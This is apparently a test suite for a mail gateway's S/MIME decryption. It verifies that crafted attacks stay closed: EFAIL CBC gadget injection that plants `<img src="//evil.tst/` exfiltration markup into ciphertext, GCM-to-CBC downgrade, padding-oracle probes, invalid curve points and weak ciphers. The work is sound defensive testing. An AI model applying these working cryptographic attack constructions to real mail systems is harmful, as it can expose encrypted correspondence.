/** Attacks on decryption, through the whole gateway: what is not to be opened stays as it came. @module */
import { createCipheriv, createDecipheriv, randomBytes } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import {
  context,
  integer,
  NULL,
  octetString,
  oid,
  sequence,
} from '../../src/crypto/asn1/der-writer.ts'
import { derivedKey } from '../../src/crypto/content-encryption.ts'
import { type Certificate, parseCertificate } from '../../src/crypto/x509/certificate.ts'
import {
  cbc,
  cbcIdentifier,
  gcm,
  keyAgreement,
  keyTransport,
  keyTransportOf,
} from '../support/crafted-envelope.ts'
import { ADDRESSES, type InboundWorld, makeInboundWorld } from '../support/inbound.ts'
import { crafted, derOf, expectClosed, SECRET, SECRET_TEXT } from './enveloped.ts'

/** Bob and Carol with RSA keys, and the default: strict. */
let world: InboundWorld
/** Bob on a curve, a key of the domain, triple DES; and what nothing vouches for is opened. */
let lenient: InboundWorld
let domain: Certificate
const DAVE = 'dave@example.test'

beforeAll(async () => {
  world = await makeInboundWorld()
  lenient = await makeInboundWorld({
    wish: { unauthenticated: 'deliver' },
    keys: { bob: 'p-256', ann: 'p-256', ben: 'p-256', mallory: 'p-256', eve: 'p-256' },
    identities: { '@example.test': 'rsa-2048' },
    tripleDes: true,
  })
  domain = certificateOf(lenient, '@example.test')
})
afterAll(async () => {
  await world.close()
  await lenient.close()
})

describe('B1 cipher text for one recipient, sent to another', () => {
  test('B1 stays closed for the one and opens for the other, in one message', async () => {
    const message = world.message(await world.encrypted(SECRET_TEXT, ['carol']))
    const copies = await world.deliverAll(message, [ADDRESSES.bob, ADDRESSES.carol])
    const closed = copies.filter(({ encryption }) => encryption === 'no-key')
    const opened = copies.filter(({ encryption }) => encryption === 'unauthenticated')
    expect([closed.length, opened.length]).toEqual([1, 1])
    expectClosed(closed[0]!, message)
    expect(opened[0]!.body).toContain(SECRET)
    expect(world.house.sinks.inbound.messages.slice(-2).map(it => it.forwardPaths)).toEqual(
      expect.arrayContaining([[ADDRESSES.bob], [ADDRESSES.carol]]),
    )
    const toBob = world.house.sinks.inbound.messages.find(
      ({ forwardPaths, octets }) => forwardPaths.includes(ADDRESSES.bob) && octets.includes(SECRET),
    )
    expect(toBob).toBeUndefined()
  })

  test('B1 for both opens for each, and says that it was his own key', async () => {
    const message = world.message(await world.encrypted(SECRET_TEXT, ['bob', 'carol']))
    for (const who of ['bob', 'carol'] as const) {
      const copy = await world.deliver(message, [ADDRESSES[who]])
      expect(copy.body).toContain(SECRET)
      expect(copy.section.first('x-postern-encryption')?.body).toContain('key=own')
    }
  })

  test('B1 what stands in To, Cc and Delivered-To does not choose the key', async () => {
    const message = world.message(await world.encrypted(SECRET_TEXT, ['carol']), {
      To: ADDRESSES.carol,
      Cc: ADDRESSES.carol,
      'Delivered-To': ADDRESSES.carol,
      'X-Original-To': ADDRESSES.carol,
    })
    const copy = await world.deliver(message)
    expect(copy.encryption).toBe('no-key')
    expectClosed(copy, message)
  })

  test('B1 under the name of another key it is rubbish', async () => {
    const key = randomBytes(32)
    const forCarol = keyTransportOf(world.certificate('bob'), encryptedKey('carol', key))
    const message = world.message(crafted({ infos: [forCarol], ...gcm(key, SECRET_TEXT) }))
    const copy = await world.deliver(message)
    expect(copy.encryption).toBe('failed')
    expectClosed(copy, message)
  })

  test('B1 wrapped in cipher text for the other, only the wrapping goes', async () => {
    const inner = await world.encrypted(SECRET_TEXT, ['carol'])
    const message = world.message(await world.encrypted(inner, ['bob'], TAGGED))
    const copy = await world.deliver(message)
    expect([copy.result, copy.encryption]).toEqual(['none', 'no-key'])
    expect(copy.octets.includes(SECRET)).toBe(false)
    expect(derOf(Buffer.from(`\r\n\r\n${copy.body}`))).toEqual(derOf(inner))
  })

  test('B1 signed by the one who sends it again, it stays closed as well', async () => {
    const stolen = await world.encrypted(SECRET_TEXT, ['carol'])
    const signed = await world.signed(stolen, 'mallory')
    const message = world.message(signed, { From: ADDRESSES.mallory })
    const copy = await world.deliver(message)
    expect(copy.encryption).toBe('no-key')
    expectClosed(copy, message)
  })

  test('B1 the key of a domain opens for everybody in it, and is said to be that', async () => {
    const infos = [keyTransport(domain, KEY)]
    const message = lenient.message(crafted({ infos, ...gcm(KEY, SECRET_TEXT) }))
    for (const to of [DAVE, ADDRESSES.bob]) {
      const copy = await lenient.deliver(message, [to])
      expect([copy.encryption, copy.result]).toEqual(['opened', 'none'])
      expect(copy.section.first('x-postern-encryption')?.body).toContain('key=domain')
    }
  })

  test('B1 the key of one in a domain opens for nobody else in it', async () => {
    const message = lenient.message(await lenient.encrypted(SECRET_TEXT, ['bob'], TAGGED))
    const toDave = await lenient.deliver(message, [DAVE])
    expect(toDave.encryption).toBe('no-key')
    expectClosed(toDave, message)
    const toBob = await lenient.deliver(message)
    expect(toBob.section.first('x-postern-encryption')?.body).toContain('key=own')
  })

  test('B1 to two recipients, a key of the domain and one of his own: each has his', async () => {
    const infos = [keyTransport(lenient.certificate('carol'), KEY), keyTransport(domain, KEY)]
    const message = lenient.message(crafted({ infos, ...gcm(KEY, SECRET_TEXT) }))
    const owners: unknown[] = []
    for (const to of [ADDRESSES.carol, DAVE]) {
      const { section } = await lenient.deliver(message, [to])
      owners.push(/key=(\w+)/.exec(section.first('x-postern-encryption')!.body)?.[1])
    }
    expect(owners).toEqual(['own', 'domain'])
  })

  test('B1 the key of a domain opens for nobody where that is not wished', async () => {
    const strict = await makeInboundWorld({
      identities: { '@example.test': 'rsa-2048' },
      domainKeys: false,
    })
    try {
      const infos = [keyTransport(certificateOf(strict, '@example.test'), KEY)]
      const message = strict.message(crafted({ infos, ...gcm(KEY, SECRET_TEXT) }))
      const copy = await strict.deliver(message, [DAVE])
      expect(copy.encryption).toBe('no-key')
      expectClosed(copy, message)
    } finally {
      await strict.close()
    }
  })
})

describe('B2 B4 cipher text beside what an attacker has written', () => {
  const HTML = 'Content-Type: text/html\r\n\r\n<img src="http://evil.test/'
  const TEXT = 'Content-Type: text/plain\r\n\r\nWhat about this?\r\n'
  const WRAPPINGS: Readonly<Record<string, (entity: string) => string>> = {
    'between two halves of a tag': it => multipart('mixed', HTML, it, HTML),
    'behind a question, to be quoted in the answer': it => multipart('mixed', TEXT, it),
    'as an alternative': it => multipart('alternative', TEXT, it),
    'shown by a cid: reference': it =>
      multipart(
        'related',
        `${HTML.replace('http://evil.test/', 'cid:c1">')}\r\n`,
        `Content-ID: <c1>\r\n${it}`,
      ),
    'in an attached message': it =>
      `Content-Type: message/rfc822\r\n\r\nSubject: see\r\nMIME-Version: 1.0\r\n${it}`,
    'alone in a multipart': it => multipart('mixed', it),
    'deep inside': it => multipart('mixed', multipart('mixed', multipart('mixed', it))),
    'in a report': it => multipart('report; report-type=delivery-status', TEXT, it),
  }

  test.each(Object.keys(WRAPPINGS))('B2 B4 %s, stays closed', async name => {
    expect.hasAssertions()
    for (const cipher of ['aes-256-cbc', 'aes-256-gcm'] as const) {
      const entity = await world.encrypted(SECRET_TEXT, ['bob'], { cipher })
      const wrapped = WRAPPINGS[name]!(entity.toString('latin1'))
      const message = world.message(Buffer.from(wrapped, 'latin1'))
      expectClosed(await world.deliver(message), message)
    }
  })

  test.each(Object.keys(WRAPPINGS))('B2 %s and signed by whoever sends it again', async name => {
    expect.hasAssertions()
    const entity = await world.encrypted(SECRET_TEXT, ['bob'])
    const wrapped = Buffer.from(WRAPPINGS[name]!(entity.toString('latin1')), 'latin1')
    const message = world.message(await world.signed(wrapped, 'mallory'))
    expectClosed(await world.deliver(message), message)
  })

  test('B2 at the root it opens', async () => {
    const message = world.message(await world.encrypted(SECRET_TEXT, ['bob'], TAGGED))
    expect(await world.deliver(message)).toMatchObject({ encryption: 'opened' })
  })

  test.each([
    ['behind its base64', (it: string) => `${it}<img src="http://evil.test/\r\n`],
    ['behind its end', (it: string) => `${it}\r\nQQ==\r\n`],
    ['ahead of its base64', (it: string) => it.replace('\r\n\r\n', '\r\n\r\n<img src="\r\n')],
  ])('B2 with other words %s it is none', async (_where, add) => {
    expect.hasAssertions()
    const entity = (await world.encrypted(SECRET_TEXT, ['bob'])).toString('latin1')
    const message = world.message(Buffer.from(add(entity), 'latin1'))
    expectClosed(await world.deliver(message), message)
  })

  test('B2 a plaintext that was put into another message passes by no signature around it', async () => {
    const inner = await world.encrypted(SECRET_TEXT, ['bob'], TAGGED)
    const message = world.message(await world.signed(inner, 'ann'))
    const copy = await world.deliver(message)
    expect([copy.result, copy.code]).toEqual(['neutral', 'signature-around-encryption'])
  })
})

describe('B3 gadgets in cipher text that nothing vouches for', () => {
  /** EFAIL: the sender's own words, in blocks of which every second is random. */
  function withGadgets(to: InboundWorld): Buffer {
    const plain = Buffer.from(
      'Content-Type: multipart/signed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n' +
        `<p>${SECRET}</p>\r\n--x--\r\n`,
    )
    for (;;) {
      const { algorithm, content } = cbc(KEY, plain)
      const iv = algorithm.subarray(-16)
      // D(first block) is known: all such messages begin alike.
      const begin = xor(iv, plain.subarray(0, 16))
      const [first, ...others] = GADGETS.map(words => xor(begin, Buffer.from(words)))
      const block = content.subarray(0, 16)
      const pieces = [block, ...others.flatMap(other => [other, block]), content]
      const altered = Buffer.concat(pieces)
      if (!isReadable(first!, altered)) continue
      const infos = [keyTransport(to.certificate('carol'), KEY)]
      return to.message(crafted({ infos, algorithm: cbcIdentifier(32, first!), content: altered }))
    }
  }

  /** No line is broken by the random octets, so that a lenient reader has something to read. */
  function isReadable(iv: Buffer, content: Buffer): boolean {
    const cipher = createDecipheriv('aes-256-cbc', KEY, iv)
    const plain = Buffer.concat([cipher.update(content), cipher.final()]).toString('latin1')
    return !/[\0\r\n]/.test(plain.replaceAll('\r\n', ''))
  }

  const GADGETS = [
    'Content-Type: te',
    'xt/html\r\n\r\n<img ',
    ' src="//evil.tst',
    '/               ',
  ]

  test('B3 are not opened under the default', async () => {
    const message = withGadgets(world)
    const copy = await world.deliver(message, [ADDRESSES.carol])
    expect(copy.encryption).toBe('refused')
    expectClosed(copy, message)
  })

  test('B3 opened by an operator’s wish, they are said to be that', async () => {
    const copy = await lenient.deliver(withGadgets(lenient), [ADDRESSES.carol])
    expect(copy.body).toContain('evil.tst')
    expect([copy.result, copy.encryption]).toEqual(['none', 'unauthenticated'])
  })

  test('B3 around a good signature do not pass, nor open', async () => {
    const signed = await world.signed(SECRET_TEXT, 'ann')
    const { algorithm, content } = cbc(KEY, signed)
    // The first 16 octets are known; of the second block every octet becomes random.
    const infos = [keyTransport(world.certificate('bob'), KEY)]
    const iv = xor(
      xor(algorithm.subarray(-16), signed.subarray(0, 16)),
      Buffer.from('Content-Type: x/'),
    )
    const identifier = Buffer.concat([algorithm.subarray(0, -16), iv])
    const message = world.message(crafted({ infos, algorithm: identifier, content }))
    expectClosed(await world.deliver(message), message)
    const intact = world.message(crafted({ infos, algorithm, content }))
    expect(await world.deliver(intact)).toMatchObject({ result: 'pass', encryption: 'opened' })
  })

  test('B3 what is put around a good signature is seen', async () => {
    const signed = (await world.signed(SECRET_TEXT, 'ann')).toString('latin1')
    // Two blocks of rubbish and a reference, in front of the first delimiter, where nobody has signed.
    const gadget = `<img src="http://evil.test/${String.fromCharCode(1, 2, 0xfe, 0xff, 7, 27)}\r\n`
    const altered = signed.replace('\r\n\r\n', `\r\n\r\n${gadget}`)
    const message = world.message(await world.encrypted(Buffer.from(altered, 'latin1'), ['bob']))
    const { result, encryption, body } = await world.deliver(message)
    expect([result, encryption]).toEqual(['none', 'refused'])
    expect(body).not.toContain('evil.test')
  })

  test('B3 without a tag and without a signature, an honest text is opened, and is no more', async () => {
    const message = world.message(await world.encrypted(SECRET_TEXT, ['bob']))
    const copy = await world.deliver(message)
    expect([copy.result, copy.encryption]).toEqual(['none', 'unauthenticated'])
    expect(copy.body).toContain(SECRET)
  })
})

describe('B5 B75 what goes wrong in opening', () => {
  test('B5 B75 has one reply and one stamp, and the message comes as it was', async () => {
    const bob = world.certificate('bob')
    const good = gcm(KEY, SECRET_TEXT)
    const turned = (octets: Buffer, at: number) => {
      const copy = Buffer.from(octets)
      copy[at]! ^= 0x80
      return copy
    }
    const infos = [keyTransport(bob, KEY)]
    const plain = cbc(KEY, SECRET_TEXT)
    const spoilt: Readonly<Record<string, Buffer>> = {
      'no padding of RSA': crafted({ infos: [keyTransportOf(bob, randomBytes(255))], ...good }),
      'a key of 24 octets': crafted({ infos: [keyTransport(bob, randomBytes(24))], ...good }),
      'another key': crafted({ infos: [keyTransport(bob, randomBytes(32))], ...good }),
      'over the modulus': crafted({
        infos: [keyTransportOf(bob, Buffer.alloc(256, 0xff))],
        ...good,
      }),
      'an encrypted key of no octets': crafted({
        infos: [keyTransportOf(bob, Buffer.alloc(0))],
        ...good,
      }),
      'another tag': crafted({ infos, ...good, mac: turned(good.mac, 15) }),
      'another content': crafted({ infos, ...good, content: turned(good.content, 3) }),
      'another padding': crafted({
        infos,
        ...plain,
        content: turned(plain.content, plain.content.length - 17),
      }),
      'another key, in CBC': crafted({ infos: [keyTransportOf(bob, randomBytes(255))], ...plain }),
    }
    const seen = new Set<string>()
    for (const entity of Object.values(spoilt)) {
      const message = world.message(entity)
      const copy = await world.deliver(message)
      expectClosed(copy, message)
      const { code, text: words } = copy.reply.end!
      // A random key yields a padding that is one, once in 256.
      seen.add(`${code} ${words} ${copy.encryption.replace('refused', 'failed')}`)
    }
    expect(seen.size).toBe(1)
    const opened = await world.deliver(world.message(crafted({ infos, ...good })))
    const { code, text: words } = opened.reply.end!
    expect([...seen]).toEqual([`${code} ${words} failed`])
    expect(opened.encryption).toBe('opened')
  })
})

describe('B6 several RecipientInfos for one key', () => {
  test('B6 the first is taken, and no other tells how it went', async () => {
    const bob = world.certificate('bob')
    const wrong = keyTransport(bob, randomBytes(32))
    const right = keyTransport(bob, KEY)
    const broken = keyTransportOf(bob, randomBytes(255))
    const encrypted = gcm(KEY, SECRET_TEXT)
    for (const first of [wrong, broken]) {
      const message = world.message(crafted({ infos: [first, right], ...encrypted }))
      const copy = await world.deliver(message)
      expect(copy.encryption).toBe('failed')
      expectClosed(copy, message)
    }
    const message = world.message(crafted({ infos: [right, wrong], ...encrypted }))
    expect(await world.deliver(message)).toMatchObject({ encryption: 'opened' })
  })
})

describe('B7 the same key under another cipher', () => {
  const known = Buffer.concat([SECRET_TEXT, Buffer.alloc(2000, 'and so on. ')])
  const aead = gcm(KEY, known)
  const nonce = aead.algorithm.subarray(-15, -3)

  /**
   * After Strenzke and Roth: whoever knows a plaintext in counter mode has blocks of which he knows what
   * CBC makes of them. Two will do: the first says what he likes, by the IV, and the second ends as
   * padding does.
   */
  function downgraded(to: InboundWorld): Buffer {
    const counters = Array.from({ length: 100 }, (_, block) => {
      const counter = Buffer.concat([nonce, Buffer.from([0, 0, 0, block + 2])])
      const [start, end] = [block * 16, block * 16 + 16]
      return {
        counter,
        encrypted: xor(aead.content.subarray(start, end), known.subarray(start, end)),
      }
    })
    const pairs = counters.flatMap(one => counters.map(other => [one, other] as const))
    const [one, other] = pairs.find(([first, last]) => {
      const plain = xor(first.encrypted, last.counter)
      return plain[15] === 1 && !plain.some(octet => octet === 0 || octet === 10 || octet === 13)
    })!
    const iv = xor(one.counter, Buffer.from('\r\nI opened this:'))
    return to.message(
      crafted({
        infos: [keyTransport(to.certificate('carol'), KEY)],
        algorithm: cbcIdentifier(32, iv),
        content: Buffer.concat([one.encrypted, other.encrypted]),
      }),
    )
  }

  test('B7 is not opened under the default, nor does anybody vouch for it', async () => {
    expect.hasAssertions()
    const message = downgraded(world)
    expectClosed(await world.deliver(message, [ADDRESSES.carol]), message)
  })

  test('B7 opened by an operator’s wish, it is what nothing vouches for', async () => {
    const copy = await lenient.deliver(downgraded(lenient), [ADDRESSES.carol])
    expect([copy.result, copy.encryption]).toEqual(['none', 'unauthenticated'])
    expect(copy.body.startsWith('I opened this:')).toBe(true)
    expect(copy.octets.includes(SECRET)).toBe(false)
  })

  test('B7 an AEAD called EnvelopedData, and CBC called AuthEnvelopedData, are not read', async () => {
    const infos = [keyTransport(world.certificate('bob'), KEY)]
    const { mac, ...bare } = aead
    const pieces = [
      { infos, ...bare },
      { infos, ...cbc(KEY, SECRET_TEXT), mac },
    ]
    for (const piece of pieces) {
      const message = world.message(crafted(piece))
      const copy = await world.deliver(message)
      expect([copy.encryption, copy.notes]).toEqual(['unreadable', ['algorithm-misplaced']])
      expectClosed(copy, message)
    }
  })

  test('B7 RFC 9709: a key that is derived opens, and is another under another cipher', async () => {
    const infos = [keyTransport(world.certificate('bob'), KEY)]
    const { algorithm, ...rest } = gcm(KEY, SECRET_TEXT, { derive: derivedKey })
    const derived = sequence(oid('1.2.840.113549.1.9.16.3.31'), algorithm)
    const whole = world.message(crafted({ infos, algorithm: derived, ...rest }))
    expect(await world.deliver(whole)).toMatchObject({ encryption: 'opened' })
    const plain = world.message(crafted({ infos, algorithm, ...rest }))
    expectClosed(await world.deliver(plain), plain)
  })
})

describe('B8 tags and nonces', () => {
  test.each([
    [4, 4],
    [8, 8],
    [11, 11],
    [12, 16],
    [16, 12],
    [16, null],
    [0, 16],
  ])('B8 a tag of %i octets, declared as %s, is refused', async (macOctets, declaredOctets) => {
    const infos = [keyTransport(world.certificate('bob'), KEY)]
    const pieces = { infos, ...gcm(KEY, SECRET_TEXT, { macOctets, declaredOctets }) }
    const message = world.message(crafted(pieces))
    const copy = await world.deliver(message)
    expect([copy.encryption, copy.notes]).toEqual(['unreadable', ['parameters-refused']])
    expectClosed(copy, message)
  })

  test.each([1, 8, 11, 13, 16, 64])('B8 a nonce of %i octets is refused', async nonceOctets => {
    const infos = [keyTransport(world.certificate('bob'), KEY)]
    const message = world.message(crafted({ infos, ...gcm(KEY, SECRET_TEXT, { nonceOctets }) }))
    const copy = await world.deliver(message)
    expect([copy.encryption, copy.notes]).toEqual(['unreadable', ['parameters-refused']])
    expectClosed(copy, message)
  })

  test.each([12, 13, 16])('B8 a tag of %i octets that says so is a tag', async macOctets => {
    const infos = [keyTransport(world.certificate('bob'), KEY)]
    const message = world.message(crafted({ infos, ...gcm(KEY, SECRET_TEXT, { macOctets }) }))
    expect(await world.deliver(message)).toMatchObject({ encryption: 'opened' })
  })
})

describe('B9 octets that have not been checked to their end', () => {
  test('B9 do not leave, however many they are', async () => {
    const lines = `${SECRET} a line of sixty-four octets that nobody has vouched for yet\r\n`
    const plain = Buffer.from(`Content-Type: text/plain\r\n\r\n${lines.repeat(20_000)}`)
    const infos = [keyTransport(world.certificate('bob'), KEY)]
    const { mac, ...rest } = gcm(KEY, plain)
    const whole = world.message(crafted({ infos, ...rest, mac }))
    expect((await world.deliver(whole)).octets.includes(SECRET)).toBe(true)
    const wrong = Buffer.from(mac)
    wrong[15]! ^= 1
    const message = world.message(crafted({ infos, ...rest, mac: wrong }))
    const before = world.house.sinks.inbound.connections.length
    const copy = await world.deliver(message)
    expect(copy.encryption).toBe('failed')
    expectClosed(copy, message)
    const unfinished = world.house.sinks.inbound.connections.slice(before)
    expect(unfinished.map(({ unfinishedOctets }) => unfinishedOctets).filter(Boolean)).toEqual([])
  })
})

describe('B10 what is encrypted is not authentic for it', () => {
  test.each(['aes-128-cbc', 'aes-256-cbc', 'aes-128-gcm', 'aes-256-gcm'] as const)(
    'B10 by %s, without a signature: never a pass',
    async cipher => {
      const message = lenient.message(await lenient.encrypted(SECRET_TEXT, ['bob'], { cipher }), {
        From: ADDRESSES.bob,
      })
      const copy = await lenient.deliver(message)
      expect(copy.body).toContain(SECRET)
      expect([copy.result, copy.code]).toEqual(['none', 'not-signed'])
    },
  )

  test('B10 encrypted twice is not signed either', async () => {
    const once = await world.encrypted(SECRET_TEXT, ['bob'], TAGGED)
    const message = world.message(await world.encrypted(once, ['bob'], TAGGED))
    expect(await world.deliver(message)).toMatchObject({ result: 'none', encryption: 'opened' })
  })

  test('B10 a bad signature in it is bad, and a stranger’s is his', async () => {
    const altered = Buffer.from(
      (await world.signed(SECRET_TEXT, 'ann'))
        .toString('latin1')
        .replace('more of it', 'less of it'),
      'latin1',
    )
    const bad = world.message(await world.encrypted(altered, ['bob'], TAGGED))
    expect(await world.deliver(bad)).toMatchObject({ result: 'fail', code: 'digest-mismatch' })
    const foreign = await world.signed(SECRET_TEXT, 'mallory')
    const of = world.message(await world.encrypted(foreign, ['bob'], TAGGED))
    expect(await world.deliver(of)).toMatchObject({ result: 'fail', code: 'from-mismatch' })
  })
})

describe('B11 recipients that are no certificates', () => {
  const PBKDF2 = context(
    0,
    oid('1.2.840.113549.1.5.12'),
    sequence(octetString(Buffer.alloc(8)), integer(0x7fffffff)),
  )
  const OTHERS: Readonly<Record<string, Buffer>> = {
    'a password, and two thousand million iterations': context(
      3,
      integer(0),
      PBKDF2,
      sequence(
        oid('1.2.840.113549.1.9.16.3.9'),
        sequence(oid('2.16.840.1.101.3.4.1.42'), octetString(Buffer.alloc(16))),
      ),
      // CVE-2025-9230: an encrypted key that is shorter than its own header.
      octetString(Buffer.alloc(2)),
    ),
    'a symmetric key': context(
      2,
      integer(4),
      sequence(octetString(Buffer.alloc(8))),
      sequence(oid('2.16.840.1.101.3.4.1.45')),
      octetString(Buffer.alloc(40)),
    ),
    'another kind': context(4, oid('1.2.3.4'), NULL),
    'a kind of tomorrow': context(9, NULL),
  }

  test.each(Object.keys(OTHERS))('B11 %s, are passed over at no cost', async name => {
    const encrypted = gcm(KEY, SECRET_TEXT)
    const began = performance.now()
    const message = world.message(crafted({ infos: [OTHERS[name]!], ...encrypted }))
    const copy = await world.deliver(message)
    expect([copy.encryption, copy.notes]).toEqual(['unreadable', ['recipients-refused']])
    expectClosed(copy, message)
    const infos = [OTHERS[name]!, keyTransport(world.certificate('bob'), KEY)]
    const both = await world.deliver(world.message(crafted({ infos, ...encrypted })))
    expect(both.encryption).toBe('opened')
    expect(performance.now() - began).toBeLessThan(10_000)
  })

  test('B11 more recipients than anybody has are not read', async () => {
    const one = keyTransportOf(world.certificate('carol'), Buffer.alloc(1))
    const infos = Array.from({ length: 1001 }, () => one)
    const message = world.message(crafted({ infos, ...gcm(KEY, SECRET_TEXT) }))
    const copy = await world.deliver(message)
    expect([copy.encryption, copy.notes]).toEqual(['unreadable', ['malformed']])
    expectClosed(copy, message)
  })
})

describe('B12 keys that are agreed on', () => {
  const EC = '1.2.840.10045.2.1'
  const P256 = sequence(oid(EC), oid('1.2.840.10045.3.1.7'))
  const GENERATOR = Buffer.from(
    '046b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296' +
      '4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5',
    'hex',
  )
  const offCurve = Buffer.from(GENERATOR)
  offCurve[64]! ^= 1
  const CASES: Readonly<Record<string, readonly [Buffer, Buffer]>> = {
    'a point beside the curve': [P256, offCurve],
    'the point at infinity': [P256, Buffer.alloc(1)],
    'no point': [P256, Buffer.alloc(0)],
    'a curve that is spelt out': [sequence(oid(EC), explicitP256()), GENERATOR],
    'another curve than the recipient’s': [sequence(oid(EC), oid('1.3.132.0.34')), GENERATOR],
    'X25519, all zero, to a key of another kind': [sequence(oid('1.3.101.110')), Buffer.alloc(32)],
  }

  test.each(Object.keys(CASES))('B12 %s opens nothing', async name => {
    const [algorithm, point] = CASES[name]!
    const infos = [keyAgreement(lenient.certificate('bob'), algorithm, point)]
    const message = lenient.message(crafted({ infos, ...gcm(KEY, SECRET_TEXT) }))
    const copy = await lenient.deliver(message)
    expect(['failed', 'unreadable', 'no-key']).toContain(copy.encryption)
    expectClosed(copy, message)
  })

  test('B12 a point of the curve opens', async () => {
    const message = lenient.message(await lenient.encrypted(SECRET_TEXT, ['bob'], TAGGED))
    const copy = await lenient.deliver(message)
    expect(copy.encryption).toBe('opened')
    expect(copy.section.first('x-postern-encryption')?.body).toMatch(/management=ecdh-/)
  })
})

describe('B13 ciphers that do not protect', () => {
  const REFUSED: Readonly<Record<string, Buffer>> = {
    'RC2 of 40 bits': sequence(
      oid('1.2.840.113549.3.2'),
      sequence(integer(160), octetString(Buffer.alloc(8))),
    ),
    DES: sequence(oid('1.3.14.3.2.7'), octetString(Buffer.alloc(8))),
    RC4: sequence(oid('1.2.840.113549.3.4'), NULL),
    'no cipher at all': sequence(oid('1.2.840.113549.1.9.16.3.7'), NULL),
  }

  test.each(Object.keys(REFUSED))(
    'B13 %s is not read, whatever the operator wishes',
    async name => {
      const infos = [keyTransport(lenient.certificate('carol'), randomBytes(16))]
      const pieces = { infos, algorithm: REFUSED[name]!, content: Buffer.alloc(64) }
      const message = lenient.message(crafted(pieces))
      const copy = await lenient.deliver(message, [ADDRESSES.carol])
      expect([copy.encryption, copy.notes]).toEqual(['unreadable', ['algorithm-refused']])
      expectClosed(copy, message)
    },
  )

  test('B13 triple DES is read by an operator’s wish alone, and is said to be weak', async () => {
    const key = randomBytes(24)
    const iv = randomBytes(8)
    const cipher = createCipheriv('des-ede3-cbc', key, iv)
    const content = Buffer.concat([cipher.update(SECRET_TEXT), cipher.final()])
    const algorithm = sequence(oid('1.2.840.113549.3.7'), octetString(iv))
    const to = (it: InboundWorld) =>
      it.message(
        crafted({ infos: [keyTransport(it.certificate('carol'), key)], algorithm, content }),
      )
    const message = to(world)
    expectClosed(await world.deliver(message, [ADDRESSES.carol]), message)
    const copy = await lenient.deliver(to(lenient), [ADDRESSES.carol])
    expect([copy.result, copy.encryption]).toEqual(['none', 'unauthenticated'])
    expect(copy.notes).toContain('weak-cipher')
  })
})

function encryptedKey(who: 'bob' | 'carol', key: Buffer): Buffer {
  const info = keyTransport(world.certificate(who), key)
  return info.subarray(-256)
}

function multipart(subtype: string, ...parts: readonly string[]): string {
  const boundary = `b${randomBytes(8).toString('hex')}`
  const all = parts.map(part => `--${boundary}\r\n${part}\r\n`)
  return `Content-Type: multipart/${subtype}; boundary=${boundary}\r\n\r\n${all.join('')}--${boundary}--\r\n`
}

function certificateOf({ folder }: InboundWorld, name: string): Certificate {
  const pem = readFileSync(join(folder, `${name}.pem`), 'latin1')
  const [, base64] = /-----BEGIN CERTIFICATE-----([^-]+)-----END/.exec(pem)!
  return parseCertificate(Buffer.from(base64!, 'base64'))
}

function xor(one: Buffer, other: Buffer): Buffer {
  return Buffer.from(one.map((octet, at) => octet ^ other[at]!))
}

/** SpecifiedECDomain of P-256 (SEC 1 §C.2), with the generator as it should be. */
function explicitP256(): Buffer {
  const hex = (digits: string) => Buffer.from(digits, 'hex')
  const p = hex('00ffffffff00000001000000000000000000000000ffffffffffffffffffffffff')
  const a = hex('ffffffff00000001000000000000000000000000fffffffffffffffffffffffc')
  const b = hex('5ac635d8aa3a93e7b3ebbd55769886bc651d06b0cc53b0f63bce3c3e27d2604b')
  const n = hex('00ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551')
  return sequence(
    integer(1),
    sequence(oid('1.2.840.10045.1.1'), integer(p)),
    sequence(octetString(a), octetString(b)),
    octetString(
      Buffer.from(
        `046b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296` +
          `4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5`,
        'hex',
      ),
    ),
    integer(n),
    integer(1),
  )
}

const KEY = randomBytes(32)
const TAGGED = { cipher: 'aes-256-gcm' } as const
